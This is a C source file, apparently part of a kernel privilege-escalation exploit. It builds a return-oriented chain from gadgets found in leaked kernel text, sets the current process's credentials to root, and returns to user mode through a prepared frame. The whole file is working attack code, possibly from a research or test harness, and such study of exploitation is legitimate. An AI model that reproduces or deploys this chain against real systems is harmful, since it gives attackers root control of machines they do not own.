/*
 * A return-oriented chain that makes the process root and goes back to user mode.
 *
 * The page as the kernel will see it once RSP points into it:
 *
 *   seen_at          room for the stack of the functions that the chain calls
 *   ...
 *   start            gadget: pop rsi .. ret
 *                    0
 *                    gadget: pop rdi .. ret
 *                    process
 *                    credentials_set
 *   frame - 8        user_return            credentials_set returns to it
 *   frame            struct bw_frame        what user_return goes back to user mode with
 *   seen_at + 4096
 *
 * A function expects RSP + 8 to be a multiple of 16 when it starts, so the frame must be.
 */
#include "attack.h"

#include <assert.h>
#include <string.h>

enum {
	CHAIN_MAX = 24,
	RFLAGS_USER = 0x202, /* interrupts on */
	RESUME_STACK_SIZE = 64 << 10,
	FRAME_OFFSET = BW_PAGE_SIZE - sizeof(struct bw_frame),
};

static_assert(FRAME_OFFSET % 16 == 0, "the chain keeps the stack aligned");

static uint8_t resume_stack[RESUME_STACK_SIZE] __attribute__((aligned(16)));

struct chain {
	uint64_t words[CHAIN_MAX];
	size_t nr_words;
};

static void chain_add(struct chain *chain, uint64_t word)
{
	assert(chain->nr_words < CHAIN_MAX);
	chain->words[chain->nr_words++] = word;
}

static void chain_load(struct chain *chain, const struct gadget *gadget, uint64_t value)
{
	chain_add(chain, gadget->address);
	chain_add(chain, value);
	for (unsigned int i = 0; i < gadget->nr_extra; i++) {
		chain_add(chain, 0);
	}
}

static void find_gadgets(const struct bw_leak *leak, struct gadget *pop_rdi, struct gadget *pop_rsi)
{
	struct gadget_text text;

	gadget_text_open(&text, leak);
	if (!gadget_find(&text, leak->image_base, GADGET_RDI, pop_rdi) ||
	    !gadget_find(&text, leak->image_base, GADGET_RSI, pop_rsi)) {
		attack_skip("the kernel's text holds no gadget for rdi and rsi");
	}
	attack_say("gadgets in %zu bytes of kernel text: pop rdi at 0x%lx, pop rsi at 0x%lx",
		   text.nr_read, pop_rdi->address, pop_rsi->address);
}

uint64_t payload_chain(void *page, uint64_t seen_at, const struct bw_leak *leak,
		       void (*resume)(void))
{
	struct gadget pop_rdi, pop_rsi;
	struct chain chain = { .nr_words = 0 };
	struct bw_frame frame = {
		.rip = (uintptr_t)resume,
		.cs = leak->user_cs,
		.rflags = RFLAGS_USER,
		.rsp = (uintptr_t)resume_stack + RESUME_STACK_SIZE - sizeof(uint64_t),
		.ss = leak->user_ss,
	};

	find_gadgets(leak, &pop_rdi, &pop_rsi);
	/* RDI comes last: what else its gadget pops is 0, which is what RSI must be. */
	chain_load(&chain, &pop_rsi, 0);
	chain_load(&chain, &pop_rdi, leak->process);
	chain_add(&chain, leak->credentials_set);
	chain_add(&chain, leak->user_return);

	size_t start = FRAME_OFFSET - chain.nr_words * sizeof(uint64_t);

	memcpy((uint8_t *)page + FRAME_OFFSET, &frame, sizeof(frame));
	memcpy((uint8_t *)page + start, chain.words, chain.nr_words * sizeof(uint64_t));
	return seen_at + start;
}
